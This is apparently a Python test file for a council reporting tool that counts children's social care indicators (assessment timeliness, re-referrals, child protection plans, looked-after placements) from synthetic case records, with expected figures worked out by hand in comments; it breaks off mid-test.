"""Indicators counted from case records (`cases:`), as the returns define them.

Each test writes the small project it needs: config, catalogue and tables of records, so
the whole situation it checks is on the page. Expected figures are worked out by hand
in the comments, independently of reportgen.
"""

from __future__ import annotations

import csv
import shutil
import textwrap
from collections.abc import Callable
from datetime import date, datetime, timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import reportgen
from reportgen.cases.calendar import bank_holidays, working_days
from reportgen.domain.model import Status
from reportgen.domain.periods import Month
from reportgen.errors import InputError

AUTHORITY = """\
name: Test Council
short_name: Test
case_records:
  extract_date: 2026-11-02
  first_period: 2026-04
  validated_to: 2026-09
"""

SA45 = """\
  - id: SA45
    title: Assessments authorised within 45 working days
    unit: percent
    polarity: higher
    cases:
      table: assessments
      in_period: AssessmentAuthorisationDate
      within: {from: AssessmentActualStartDate, to: AssessmentAuthorisationDate, working_days: 45}
"""

RR = """\
  - id: RR
    title: Re-referrals within 12 months
    unit: percent
    polarity: lower
    decimals: 1
    cases: {table: referrals, in_period: CINreferralDate, previous: {months: 12}}
"""


def write_project(
    root: Path,
    indicators: str,
    tables: dict[str, str],
    authority: str = AUTHORITY,
    data: str = "",
) -> Path:
    """A project of its own: authority, catalogue, case tables and (optionally) data rows."""
    (root / "config").mkdir(parents=True)
    (root / "data" / "cases").mkdir(parents=True)
    (root / "config" / "authority.yaml").write_text(authority)
    (root / "config" / "indicators.yaml").write_text("indicators:\n" + indicators)
    for name, text in tables.items():
        (root / "data" / "cases" / name).write_text(textwrap.dedent(text).lstrip())
    if data:
        (root / "data" / "indicators").mkdir()
        (root / "data" / "indicators" / "data.csv").write_text(textwrap.dedent(data).lstrip())
    return root


def figures(root: Path, indicator: str) -> dict[str, tuple[Any, ...]]:
    """(numerator, denominator, value, status) of each period, by period code."""
    project = reportgen.Workspace(root).project()
    return {
        period.code: (o.numerator, o.denominator, o.value, o.status.value)
        for period, o in project.observations[indicator].items()
    }


def problems_of(root: Path) -> list[str]:
    with pytest.raises(InputError) as raised:
        reportgen.Workspace(root).project()
    return [str(p) for p in raised.value.problems]


# --- working days -----------------------------------------------------------------------


def days_between(start: str, end: str, added: tuple[date, ...] = ()) -> int:
    first, last = date.fromisoformat(start), date.fromisoformat(end)
    holidays = bank_holidays(range(first.year, last.year + 1), added)
    counted = working_days(
        np.array([start], dtype="datetime64[D]"), np.array([end], dtype="datetime64[D]"), holidays
    )
    return int(counted[0])


@pytest.mark.parametrize(
    ("start", "end", "expected", "why"),
    [
        ("2026-09-07", "2026-09-07", 0, "the same day"),
        ("2026-09-07", "2026-09-08", 1, "Monday to Tuesday"),
        ("2026-09-11", "2026-09-14", 1, "Friday to Monday: the weekend is not counted"),
        # 24 Dec (Thu) 1; 25 Dec (Fri) Christmas; 28 Dec (Mon) Boxing Day observed; 29 Dec 2.
        ("2026-12-23", "2026-12-29", 2, "across Christmas 2026"),
        # 2 Apr 2026 (Thu); Good Friday 3 Apr and Easter Monday 6 Apr; 7 Apr is 1.
        ("2026-04-02", "2026-04-07", 1, "across Easter 2026"),
        # Coronation of King Charles III: Monday 8 May 2023, a one-off bank holiday.
        ("2023-05-05", "2023-05-09", 1, "across the coronation bank holiday"),
        # 28 Feb 2024 (Wed) to 1 Mar (Fri): 29 Feb and 1 Mar.
        ("2024-02-28", "2024-03-01", 2, "across a leap day"),
    ],
)
def it_counts_working_days_as_england_and_wales_keep_them(
    start: str, end: str, expected: int, why: str
) -> None:
    assert days_between(start, end) == expected, why


def it_counts_a_bank_holiday_the_project_adds() -> None:
    # Tuesday 16 June 2026 made a one-off bank holiday: Monday 15 to Wednesday 17 is 1, not 2.
    assert days_between("2026-06-15", "2026-06-17") == 2
    assert days_between("2026-06-15", "2026-06-17", (date(2026, 6, 16),)) == 1


# --- figures checked by hand ------------------------------------------------------------

ASSESSMENTS = """\
    LAchildID,AssessmentActualStartDate,AssessmentAuthorisationDate
    A1,2026-08-03,2026-09-01
    A2,2026-07-01,2026-09-10
    A3,2026-09-01,
    A4,2026-09-05,2026-09-30
    A5,2026-07-27,2026-09-29
    A6,2026-10-01,2026-10-02
"""


def it_counts_assessments_within_45_working_days_as_worked_out_by_hand(tmp_path: Path) -> None:
    # Authorised in September: A1, A2, A4, A5 (A3 is still open, A6 is October's).
    # A1 3 Aug → 1 Sep: 19 working days in August after the 3rd (31 Aug is a bank
    #    holiday) and 1 Sep: 20. Within.
    # A2 1 Jul → 10 Sep: 22 in July + 20 in August + 8 in September = 50. Late.
    # A4 5 Sep (Sat) → 30 Sep: 18 working days in September from the 7th. Within.
    # A5 27 Jul → 29 Sep: 4 in July + 20 + 21 = 45. Within: exactly the limit.
    root = write_project(tmp_path, SA45, {"assessments.csv": ASSESSMENTS})
    found = figures(root, "SA45")
    assert found["2026-09"] == (Decimal(3), Decimal(4), None, "validated")
    assert found["2026-10"] == (Decimal(1), Decimal(1), None, "provisional")
    assert found["2026-08"][3] == "not available"  # nothing authorised in August
    assert list(found) == [f"2026-{m:02d}" for m in range(4, 11)]


REFERRALS = """\
    LAchildID,CINreferralDate
    B1,2025-09-15
    B1,2026-09-15
    B2,2025-09-14
    B2,2026-09-15
    B3,2026-09-01
    B4,2024-02-29
    B4,2025-02-28
    B5,2026-08-31
    B5,2026-09-30
"""


def it_counts_a_referral_exactly_12_months_after_the_last_as_a_re_referral(
    tmp_path: Path,
) -> None:
    # September 2026: B1 (15 Sep 2025 exactly 12 months before: a re-referral), B2 (14 Sep
    # 2025, 12 months and a day: not), B3 (first), B5 (31 Aug: a month before): 2 of 4.
    authority = AUTHORITY.replace("first_period: 2026-04", "first_period: 2025-02")
    root = write_project(tmp_path, RR, {"referrals.csv": REFERRALS}, authority)
    found = figures(root, "RR")
    assert found["2026-09"][:2] == (Decimal(2), Decimal(4))
    # A leap year: 28 Feb 2025 less 12 months is 28 Feb 2024, before 29 Feb: within.
    assert found["2025-02"][:2] == (Decimal(1), Decimal(1))


def it_counts_a_second_or_subsequent_plan_from_the_childs_history(tmp_path: Path) -> None:
    plans = """\
        LAchildID,CPPstartDate,CPPendDate
        C1,2019-05-01,2020-01-10
        C1,2026-06-03,
        C2,2026-06-10,
        C3,2026-05-01,2026-05-30
        C3,2026-06-20,
    """
    indicator = """\
  - id: CPR
    title: Child protection plans that were a second or subsequent plan
    unit: percent
    polarity: none
    cases: {table: cp_plans, in_period: CPPstartDate, previous: ever}
"""
    # June: C1 (a plan in 2019: ever counts), C2 (first), C3 (a plan in May): 2 of 3.
    found = figures(write_project(tmp_path, indicator, {"cp_plans.csv": plans}), "CPR")
    assert found["2026-06"][:2] == (Decimal(2), Decimal(3))
    assert found["2026-05"][:2] == (Decimal(0), Decimal(1))


EPISODES = """\
    CHILD,DECOM,RNE,LS,PLACE,DEC,REC
    D1,01/01/2026,S,C2,U1,01/03/2026,X1
    D1,01/03/2026,P,C2,U4,01/06/2026,X1
    D1,01/06/2026,L,C2,U4,01/07/2026,X1
    D1,01/07/2026,P,C2,K2,,
    D2,15/05/2026,S,V2,U1,30/09/2026,E11
    D3,01/09/2025,S,C2,U1,01/02/2026,X1
    D3,01/02/2026,T,C2,U2,01/05/2026,X1
    D3,01/05/2026,P,C2,U3,,
    D4,01/10/2026,S,V2,U1,,
"""


CLA = """\
  - id: CLA
    title: Children looked after at month end
    unit: count
    polarity: none
    measure: snapshot
    cases: {table: episodes, open: {from: DECOM, to: DEC}, count: children}
"""


P3 = """\
  - id: P3
    title: Children looked after with three or more placements in the last 12 months
    unit: percent
    polarity: lower
    measure: snapshot
    cases:
      table: episodes
      open: {from: DECOM, to: DEC}
      count: children
      at_least: {records: 3, months: 12, continues: {RNE: L}}
"""


def it_counts_children_looked_after_at_month_end_and_their_placements(tmp_path: Path) -> None:
    indicators = CLA + P3
    # 30 Sep 2026: D1 (open since 1 Jul), D3 (open since 1 May); D2 left on 30 Sep (not
    # after it), D4 starts in October: 2 children.
    # D1's placements: from 1 Jan, from 1 Mar, from 1 Jun (RNE L on 1 Jun continues the
    # 1 Mar placement: same placement, new legal status), from 1 Jul: 3. D3's: 3 (1 Sep
    # 2025 to 1 Feb ends inside the 12 months from 1 Oct 2025). So 2 of 2 at September.
    # At 31 Oct 2026: D3's first placement ended 1 Feb 2026, still in the window from
    # 1 Nov 2025; the window for 30 Apr 2027 would lose it. D4 is 1 placement: 2 of 3.
    root = write_project(tmp_path, indicators, {"episodes.csv": EPISODES})
    assert figures(root, "CLA")["2026-09"][2] == Decimal(2)
    assert figures(root, "CLA")["2026-10"][2] == Decimal(3)
    assert figures(root, "P3")["2026-09"][:2] == (Decimal(2), Decimal(2))
    assert figures(root, "P3")["2026-10"][:2] == (Decimal(2), Decimal(3))
    # In April, D1 has had 2 placements (1 Jan, 1 Mar) and D3 2 (1 Sep, 1 Feb): 0 of 2.
    assert figures(root, "P3")["2026-04"][:2] == (Decimal(0), Decimal(2))


def it_averages_weeks_to_complete_proceedings_with_the_councils_own_column_names(
    tmp_path: Path,
) -> None:
    proceedings = """\
        Child ID,Date issued,Date of final order,Court
        E1,2026-01-05,2026-07-06,East London
        E2,2026-02-02,2026-08-03,East London
        E3,2026-03-02,2026-09-14,East London
        E4,2026-04-01,,East London
    """
    indicator = """\
  - id: WKS
    title: Average time to complete care proceedings
    unit: average
    unit_word: weeks
    polarity: lower
    grain: quarter
    decimals: 1
    cases:
      table: proceedings
      in_period: FINAL_ORDER_DATE
      duration: {from: ISSUE_DATE, to: FINAL_ORDER_DATE}
"""
    authority = AUTHORITY + textwrap.indent(
        textwrap.dedent("""\
        columns:
          proceedings: {CHILD: Child ID, ISSUE_DATE: Date issued,
                        FINAL_ORDER_DATE: Date of final order, COURT: Court}
        """),
        "  ",
    )
    # Q2 2026-27 (Jul to Sep): 182 + 182 + 196 days = 560 days = 80 weeks, over 3: 26.7.
    root = write_project(tmp_path, indicator, {"proceedings.csv": proceedings}, authority)
    numerator, denominator, _, _ = figures(root, "WKS")["2026-27 Q2"]
    assert (numerator, denominator) == (Decimal(80), Decimal(3))
    result = reportgen.Workspace(root).project().results(["WKS"], Month(2026, 10))[0]
    assert result.latest is not None and result.latest.text == "26.7 weeks"


CPR10 = """\
  - id: CPR10
    title: Children subject to a child protection plan, rate per 10,000 children
    unit: rate_per_10k
    polarity: none
    measure: snapshot
    decimals: 1
    cases: {table: cp_plans, open: {from: CPPstartDate, to: CPPendDate}, count: children}
"""


def it_gives_a_rate_per_10000_children_from_the_councils_population(tmp_path: Path) -> None:
    plans = """\
        LAchildID,CPPstartDate,CPPendDate
        F1,2026-01-01,
        F1,2025-01-01,2025-06-01
        F2,2026-03-01,2026-09-15
        F3,2026-09-30,
    """
    authority = AUTHORITY + "  population: {2025-26: 40000, 2026-27: 20000}\n"
    root = write_project(tmp_path, CPR10, {"cp_plans.csv": plans}, authority)
    # 30 Sep 2026: F1 and F3 (F2 ended 15 Sep): 2 children of 20,000 = 1.0 per 10,000.
    assert figures(root, "CPR10")["2026-09"][:2] == (Decimal(2), Decimal(20000))


def it_counts_the_rate_again_when_the_dfe_population_changes(tmp_path: Path) -> None:
    plans = """\
        LAchildID,CPPstartDate,CPPendDate
        F1,2026-01-01,
        F3,2026-09-30,
    """
    authority = AUTHORITY.replace("short_name: Test\n", "short_name: Test\nla_code: 310\n")
    root = write_project(
        tmp_path, CPR10, {"cp_plans.csv": plans}, authority + "  population: dfe\n"
    )
    dfe = root / "data" / "dfe"
    dfe.mkdir()
    for model in (Path(__file__).parents[1] / "data" / "dfe").glob("sn_model_*.csv"):
        shutil.copy(model, dfe)  # la_code needs the statistical neighbour model
    header = "time_period,old_la_code,la_name,population_estimate,rate_per_10000\n"
    (dfe / "cla.csv").write_text(header + "2026,310,Harrow,30000,1\n")
    # The DfE's 2026 estimate is the 2025-26 year's, and fills 2026-27: 2 of 30,000.
    assert figures(root, "CPR10")["2026-09"][:2] == (Decimal(2), Decimal(30000))
    (dfe / "cla.csv").write_text(header + "2026,310,Harrow,25000,1\n")
    assert figures(root, "CPR10")["2026-09"][:2] == (Decimal(2), Decimal(25000))


# --- properties -------------------------------------------------------------------------

days = st.dates(min_value=date(2025, 1, 1), max_value=date(2026, 10, 31))
records = st.lists(
    st.tuples(st.sampled_from(["G1", "G2", "G3", "G4"]), days, st.integers(0, 120)),
    min_size=1,
    max_size=25,
    unique_by=lambda r: (r[0], r[1]),
)


def _assessments(rows: list[tuple[str, date, int]]) -> str:
    lines = ["LAchildID,AssessmentActualStartDate,AssessmentAuthorisationDate"]
    lines += [
        f"{c},{s:%Y-%m-%d},{min(s + timedelta(d), date(2026, 11, 1)):%Y-%m-%d}" for c, s, d in rows
    ]
    return "\n".join(lines) + "\n"


@settings(
    max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(rows=records, extra=st.tuples(st.sampled_from(["G1", "G9"]), days, st.integers(0, 60)))
def it_is_unchanged_by_a_record_outside_the_period_and_never_counts_more_than_it_has(
    tmp_path_factory: pytest.TempPathFactory,
    rows: list[tuple[str, date, int]],
    extra: tuple[str, date, int],
) -> None:
    child, start, length = extra
    end = min(start + timedelta(length), date(2026, 11, 1))
    if (end.year == 2026 and end.month == 9) or any((child, start) == (c, s) for c, s, _ in rows):
        return  # this record would be in September, or a duplicate: not the property's case
    before = write_project(
        tmp_path_factory.mktemp("p"),
        SA45
        + RR.replace(
            "referrals, in_period: CINreferralDate",
            "assessments, in_period: AssessmentActualStartDate",
        ),
        {"assessments.csv": _assessments(rows)},
    )
    after = write_project(
        tmp_path_factory.mktemp("p"), SA45, {"assessments.csv": _assessments([*rows, extra])}
    )
    counted = figures(before, "SA45")
    assert counted["2026-09"] == figures(after, "SA45")["2026-09"]
    for numerator, denominator, _, _ in counted.values():
        assert numerator is None or numerator <= denominator
    for numerator, denominator, _, _ in figures(before, "RR").values():
        assert numerator is None or numerator <= denominator


# --- bad records ------------------------------------------------------------------------


def it_reports_each_bad_record_at_its_file_line_and_column(tmp_path: Path) -> None:
    bad = """\
        LAchildID,AssessmentActualStartDate,AssessmentAuthorisationDate
        H1,2026-09-10,2026-09-01
        H2,2026-09-01,2026-09-20
        H2,2026-09-01,2026-09-22
        ,2026-09-01,2026-09-02
        H4,31/02/2026,2026-09-02
    """
    root = write_project(tmp_path, SA45, {"assessments.csv": bad})
    found = problems_of(root)
    file = "data/cases/assessments.csv"
    assert found == [
        f"{file}:2: AssessmentAuthorisationDate: 2026-09-01 is before AssessmentActualStartDate 2026-09-10 — correct the dates: a record cannot end before it starts",
        f"{file}:4: AssessmentActualStartDate: the same LAchildID and AssessmentActualStartDate as line 3: a record given twice — remove one of the two records (or correct its date)",
        f"{file}:5: LAchildID: is empty — give the child's id on every record",
        f"{file}:6: AssessmentActualStartDate: '31/02/2026' is not a date — write dates as YYYY-MM-DD (2026-09-30) or DD/MM/YYYY (30/09/2026)",
    ]


def it_reports_a_missing_column_and_an_unknown_table(tmp_path: Path) -> None:
    tables = {
        "assessments.csv": "LAchildID,AssessmentStartDate,AssessmentAuthorisationDate\nH1,2026-09-01,2026-09-02\n",
        "asessments_old.csv": "x\n1\n",
    }
    found = problems_of(write_project(tmp_path, SA45, tables))
    assert found == [
        "data/cases/asessments_old.csv: 'asessments_old' is not a table of case records reportgen reads — did you mean 'assessments'?",
        "data/cases/assessments.csv:1: AssessmentActualStartDate: column is missing — did you mean 'AssessmentStartDate'?",
    ]


def it_leaves_out_records_dated_after_the_extract_with_a_warning(tmp_path: Path) -> None:
    future = ASSESSMENTS + "    A7,2026-09-01,2026-11-20\n    A8,2026-12-01,\n"
    root = write_project(tmp_path, SA45, {"assessments.csv": future})
    project = reportgen.Workspace(root).project()
    assert project.observations["SA45"][Month(2026, 9)].denominator == 4  # as before
    assert [str(w) for w in project.warnings] == [
        f"{root / 'data/cases/assessments.csv'}:9: AssessmentActualStartDate: 1 record has a date after the extract date (2 November 2026), at line 9; it is left out of every figure — correct the dates in the case management system and take the extract again",
        f"{root / 'data/cases/assessments.csv'}:8: AssessmentAuthorisationDate: 1 record has a date after the extract date (2 November 2026), at line 8; it is left out of every figure — correct the dates in the case management system and take the extract again",
    ]


def it_refuses_typed_figures_for_a_counted_period_but_takes_status_and_note(
    tmp_path: Path,
) -> None:
    data = """\
        indicator,period,numerator,denominator,value,status,note,source
        SA45,2026-09,,,,provisional,two assessments back-dated,
        SA45,2026-07,,,,not available,case management system outage,
        SA45,2026-10,1,1,,validated,,
        SA45,2025-09,50,60,,validated,,
    """
    root = write_project(tmp_path, SA45, {"assessments.csv": ASSESSMENTS}, data=data)
    assert problems_of(root) == [
        "data/indicators/data.csv:4: numerator: SA45 2026-10 is counted from the case records in data/cases/ — remove the figures from this row: a row with only a status and a note sets those of the counted figure"
    ]
    edited = (
        (root / "data/indicators/data.csv")
        .read_text()
        .replace("SA45,2026-10,1,1,,validated,,\n", "")
    )
    (root / "data/indicators/data.csv").write_text(edited)
    project = reportgen.Workspace(root).project()
    september = project.observations["SA45"][Month(2026, 9)]
    assert (september.numerator, september.status, september.note) == (
        3,
        Status.PROVISIONAL,
        "two assessments back-dated",
    )
    july = project.observations["SA45"][Month(2026, 7)]
    assert (july.status, july.note) == (Status.NOT_AVAILABLE, "case management system outage")
    # A period before the counted ones is typed, as before.
    assert project.observations["SA45"][Month(2025, 9)].numerator == 50


@pytest.mark.parametrize("external_first", [True, False])
def it_keeps_the_councils_status_and_note_under_an_external_figure_in_either_order(
    tmp_path: Path, external_first: bool
) -> None:
    external = "SA45,2026-09,40,50,,validated,,Ofsted\n"
    own = "SA45,2026-09,,,,provisional,two assessments back-dated,\n"
    rows = external + own if external_first else own + external
    data = "indicator,period,numerator,denominator,value,status,note,source\n" + rows
    root = write_project(tmp_path, SA45, {"assessments.csv": ASSESSMENTS}, data=data)
    given = reportgen.Workspace(root).project().observations["SA45"][Month(2026, 9)]
    assert (given.numerator, given.denominator, given.source) == (40, 50, "Ofsted")
    assert given.replaced is not None
    replaced = given.replaced
    assert (replaced.numerator, replaced.denominator, replaced.status, replaced.note) == (
        3,
        4,
        Status.PROVISIONAL,
        "two assessments back-dated",
    )
    provisional = data.replace("validated,,Ofsted", "provisional,,Ofsted")
    (root / "data/indicators/data.csv").write_text(provisional)
    assert problems_of(root) == [
        f"data/indicators/data.csv:{2 if external_first else 3}: status: SA45 2026-09 is "
        "counted from the case records, and Ofsted's figure replaces it only when validated — "
        "set its status to validated once it is, or leave the row out until then"
    ]
    twice = data + own
    (root / "data/indicators/data.csv").write_text(twice)
    assert problems_of(root) == [
        "data/indicators/data.csv:4: period: SA45 2026-09 is given twice (also line 2) — keep "
        "one row for each indicator and period, or mark an external figure validated with its source so that it replaces the council's own"
    ]


@pytest.mark.parametrize(
    ("cases", "said"),
    [
        (
            "{table: assesments, in_period: AssessmentAuthorisationDate, within: {from: AssessmentActualStartDate, to: AssessmentAuthorisationDate, days: 5}}",
            "config/indicators.yaml:6: indicator 1 cases.table: X: 'assesments' is not a table of case records reportgen reads — did you mean 'assessments'?",
        ),
        (
            "{table: assessments, within: {from: AssessmentActualStartDate, to: AssessmentAuthorisationDate, days: 5}}",
            "config/indicators.yaml:6: indicator 1 cases: X: needs either `in_period:` (records whose date falls in the period) or `open:` (records open on the period's last day), not both — e.g. `in_period: AssessmentAuthorisationDate`, or `open: {from: DECOM, to: DEC}`",
        ),
        (
            "{table: assessments, in_period: AssessmentAuthorisationDate}",
            "config/indicators.yaml:6: indicator 1 cases: X: a percent needs one of `within:`, `previous:` or `at_least:` (what the records it counts must meet) — see the README's “Indicators from case records”",
        ),
        (
            "{table: assessments, in_period: AuthorisationDate, previous: ever}",
            "config/indicators.yaml:6: indicator 1 cases.in_period: X: 'AuthorisationDate' is not a date column of assessments — did you mean 'AssessmentAuthorisationDate'?",
        ),
        (
            "{table: assessments, in_period: AssessmentAuthorisationDate, within: {from: AssessmentActualStartDate, to: AssessmentAuthorisationDate}}",
            "config/indicators.yaml:6: indicator 1 cases.within: give one limit — days, working_days, weeks or months (e.g. `working_days: 45`)",
        ),
    ],
)
def it_reports_a_rule_that_cannot_be_counted_at_its_catalogue_line(
    tmp_path: Path, cases: str, said: str
) -> None:
    entry = (
        f"  - id: X\n    title: X\n    unit: percent\n    polarity: higher\n    cases: {cases}\n"
    )
    found = problems_of(write_project(tmp_path, entry, {}))
    assert any(p.endswith(said) for p in found), found


# --- explain, and the kept figures ---------------------------------------------------------


def it_explains_a_figure_and_writes_the_childrens_records_for_the_analyst(
    tmp_path: Path, cli: Callable[..., Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    root = write_project(tmp_path, SA45, {"assessments.csv": ASSESSMENTS})
    monkeypatch.chdir(root)
    result = cli("explain", "SA45", "--period", "2026-09")
    assert result.exit_code == 0, result.stderr
    assert result.stdout.splitlines() == [
        "SA45 Assessments authorised within 45 working days, September 2026",
        "  table: assessments",
        "  counts: records whose AssessmentAuthorisationDate falls in the period",
        "  meeting it (numerator): AssessmentAuthorisationDate within 45 working days of AssessmentActualStartDate",
        "  working days: Monday to Friday less England and Wales bank holidays, counted from the day after the start to the end day",
        "  6  records in assessments",
        "  4  AssessmentAuthorisationDate in September 2026",
        "  3  meeting it: AssessmentAuthorisationDate within 45 working days of AssessmentActualStartDate",
        "SA45 September 2026: 3 of 4: 75%",
        "wrote out/explain/SA45-2026-09.csv (children's records: keep it safe)",
    ]
    assert (root / "out/explain/SA45-2026-09.csv").read_text().splitlines() == [
        "child,line,AssessmentAuthorisationDate,AssessmentActualStartDate,counted,meets,measure,left_out",
        "A1,2,2026-09-01,2026-08-03,yes,yes,20,",
        "A2,3,2026-09-10,2026-07-01,yes,no,50,",
        "A4,5,2026-09-30,2026-09-05,yes,yes,18,",
        "A5,6,2026-09-29,2026-07-27,yes,yes,45,",
    ]
    wrong = cli("explain", "SA45", "--period", "2026-27 Q2")
    assert wrong.exit_code == 1
    assert "SA45 is by month: write it as YYYY-MM" in wrong.stderr


def it_says_when_the_papers_give_another_figure_than_the_one_it_explains(
    tmp_path: Path, cli: Callable[..., Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    data = """\
        indicator,period,numerator,denominator,value,status,note,source
        SA45,2026-09,40,50,,validated,,Ofsted
        SA45,2026-08,,,,not available,case management system outage,
    """
    root = write_project(tmp_path, SA45, {"assessments.csv": ASSESSMENTS}, data=data)
    monkeypatch.chdir(root)
    september = cli("explain", "SA45", "--period", "2026-09")
    assert september.stdout.splitlines()[-3:-1] == [
        "SA45 September 2026: 3 of 4: 75%",
        "  the papers give Ofsted's validated figure, which replaces it: 40 of 50: 80%",
    ]
    august = cli("explain", "SA45", "--period", "2026-08")
    assert august.stdout.splitlines()[-2] == (
        "  the papers give no figure: data/indicators/ marks it not available "
        "(case management system outage)"
    )


def it_keeps_the_figures_by_file_content_and_counts_again_when_a_file_changes(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    root = write_project(tmp_path, SA45, {"assessments.csv": ASSESSMENTS})
    assert figures(root, "SA45")["2026-09"][:2] == (3, 4)
    from reportgen.inputs import cases

    def no_reading(*args: object, **kwargs: object) -> None:
        raise AssertionError("the unchanged extract was read again")

    monkeypatch.setattr(cases, "read_tables", no_reading)
    assert figures(root, "SA45")["2026-09"][:2] == (3, 4)  # from .cache/, in a new load
    monkeypatch.undo()
    path = root / "data/cases/assessments.csv"
    path.write_text(
        path.read_text().replace("A2,2026-07-01,2026-09-10", "A2,2026-08-01,2026-09-10")
    )
    assert figures(root, "SA45")["2026-09"][:2] == (4, 4)


def it_leaves_a_record_with_a_future_end_out_of_a_snapshot(tmp_path: Path) -> None:
    plans = """\
        LAchildID,CPPstartDate,CPPendDate
        J1,2026-08-01,
        J2,2026-08-15,2027-01-10
    """
    indicator = """\
  - id: CPN
    title: Children subject to a child protection plan at month end
    unit: count
    polarity: none
    measure: snapshot
    cases: {table: cp_plans, open: {from: CPPstartDate, to: CPPendDate}, count: children}
"""
    # J2's plan "ends" in January 2027, after the extract: a mistake, so it is left out and
    # September counts J1 alone.
    root = write_project(tmp_path, indicator, {"cp_plans.csv": plans})
    project = reportgen.Workspace(root).project()
    assert project.observations["CPN"][Month(2026, 9)].value == 1
    assert [w.line for w in project.warnings] == [3]


def it_reads_an_excel_table_and_counts_only_the_records_its_filter_names(tmp_path: Path) -> None:
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["CHILD", "DECOM", "RNE", "DEC"])
    sheet.append(["K1", datetime(2026, 9, 3), "S", None])  # a date cell, as Excel keeps it
    sheet.append(["K2", "10/09/2026", "P", None])
    sheet.append(["K3", "2026-09-20", "L", None])
    sheet.append(["K4", "2026-08-20", "B", None])
    indicator = """\
  - id: MOVES
    title: Episodes starting with a new placement
    unit: count
    polarity: none
    ytd: false
    cases: {table: episodes, in_period: DECOM, filter: {RNE: [S, P, B]}}
"""
    root = write_project(tmp_path, indicator, {})
    book.save(root / "data" / "cases" / "episodes.xlsx")
    # September: K1 (S) and K2 (P); K3 changes the legal status only (L); K4 is August's.
    assert figures(root, "MOVES")["2026-09"][2] == Decimal(2)


def annex_a_workbook(path: Path, assessments: list[list[object]]) -> None:
    """Ofsted's Annex A workbook with List 1 (not read), List 4 and List 8, as councils
    fill in the template: Annex A's own headings, dates as cells or DD/MM/YYYY."""
    from openpyxl import Workbook

    book = Workbook()
    contacts = book.active
    assert contacts is not None
    contacts.title = "List 1"
    contacts.append(["Child Unique ID", "Date of Contact"])
    contacts.append(["C0", "not a date: List 1 is not read"])
    four = book.create_sheet("List 4 - Assessments")
    four.append(["Child Unique ID", "Gender", "Continuous Assessment Start Date",
                 "Continuous assessment date of  authorisation", "Allocated Team"])  # fmt: skip
    for row in assessments:
        four.append(row)
    eight = book.create_sheet("List 8")
    eight.append(["Child Unique ID", "Date Started to be Looked After",
                  "Child's Legal Status", "Date Ceased to be Looked After"])  # fmt: skip
    eight.append(["E1", "01/07/2026", "C2: FCO", None])
    eight.append(["E2", datetime(2026, 5, 1), "V2: Single period under S20", "30/09/2026"])
    eight.append(["E3", "15/10/2026", "C1: ICO", None])
    book.save(path)


def it_counts_from_ofsted_annex_a_lists_under_their_own_headings(
    tmp_path: Path, cli: Callable[..., Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    rows: list[list[object]] = [
        ["A1", "a) Male", datetime(2026, 8, 3), datetime(2026, 9, 1), "East"],  # 20: in time
        ["A2", "b) Female", "01/07/2026", "10/09/2026", "East"],  # 50 working days: late
        ["A3", "a) Male", "01/09/2026", None, "West"],  # not authorised: not counted
    ]
    root = write_project(tmp_path, SA45 + CLA, {})
    annex_a_workbook(root / "data" / "cases" / "annex-a.xlsx", rows)
    # September: A1 within 45 working days, A2 not: 1 of 2. Looked after on 30 September:
    # E1 (since 1 July); E2 ceased that day, E3 starts in October: 1 child; 31 October: 2.
    assert figures(root, "SA45")["2026-09"][:2] == (1, 2)
    assert figures(root, "CLA")["2026-09"][2] == Decimal(1)
    assert figures(root, "CLA")["2026-10"][2] == Decimal(2)
    monkeypatch.chdir(root)
    explained = cli("explain", "SA45", "--period", "2026-09")
    assert "SA45 September 2026: 1 of 2: 50%" in explained.stdout.splitlines(), explained.stderr
    assert (root / "out/explain/SA45-2026-09.csv").read_text().splitlines()[1:] == [
        "A1,2,2026-09-01,2026-08-03,yes,yes,20,",
        "A2,3,2026-09-10,2026-07-01,yes,no,50,",
    ]

    rows[1][3] = "31/09/2026"
    annex_a_workbook(root / "data" / "cases" / "annex-a.xlsx", rows)
    assert problems_of(root) == [
        "data/cases/annex-a.xlsx (List 4 - Assessments):3: AssessmentAuthorisationDate: "
        "'31/09/2026' is not a date — write dates as YYYY-MM-DD (2026-09-30) or DD/MM/YYYY "
        "(30/09/2026)"
    ]


def it_says_which_annex_a_heading_or_list_is_missing(tmp_path: Path) -> None:
    from openpyxl import Workbook

    root = write_project(tmp_path, SA45, {})
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = "List 4"
    sheet.append(["Child Unique ID", "Continuous Assessment Start Date", "Date of Authorisation"])
    book.save(root / "data" / "cases" / "annex-a.xlsx")
    assert problems_of(root) == [
        "data/cases/annex-a.xlsx (List 4):1: Continuous Assessment Date of Authorisation: "
        "column is missing (Annex A's heading for AssessmentAuthorisationDate) — if the sheet's "
        "'Date of Authorisation' is it, head it Continuous Assessment Date of Authorisation, or "
        "map it under `case_records: columns: assessments:` in config/authority.yaml: "
        "`AssessmentAuthorisationDate: Date of Authorisation`"
    ]
    config = root / "config" / "authority.yaml"
    config.write_text(
        config.read_text()
        + "  columns:\n    assessments: {AssessmentAuthorisationDate: Date of Authorisation}\n"
    )
    # Read now: no assessment in it, so no month has a figure.
    assert {f[3] for f in figures(root, "SA45").values()} == {"not available"}
    sheet.title = "Assessments"
    book.save(root / "data" / "cases" / "annex-a.xlsx")
    assert problems_of(root) == [
        "data/cases: has no assessments table, which SA45 is counted from — add "
        "assessments.csv (or .xlsx), as the CIN census gives it, or Annex A's List 4 in "
        "annex-a.xlsx",
        "data/cases/annex-a.xlsx: has no sheet of the Annex A lists reportgen reads (List 3, "
        "List 4, List 5, List 7, List 8) — name each list's sheet as Ofsted's template does: "
        "List 4, or List 4 Assessments",
    ]


def it_reports_a_missing_table_once_not_again_in_every_paper(
    project: Path, cli: Callable[..., Any]
) -> None:
    (project / "data" / "cases" / "assessments.csv").unlink()
    result = cli("check")
    assert result.exit_code == 1
    # L1 is counted from assessments: the problem is the table, not a row to add for each paper.
    assert result.stderr.splitlines() == [
        "data/cases: has no assessments table, which L1 is counted from — add assessments.csv "
        "(or .xlsx), as the CIN census gives it, or Annex A's List 4 in annex-a.xlsx",
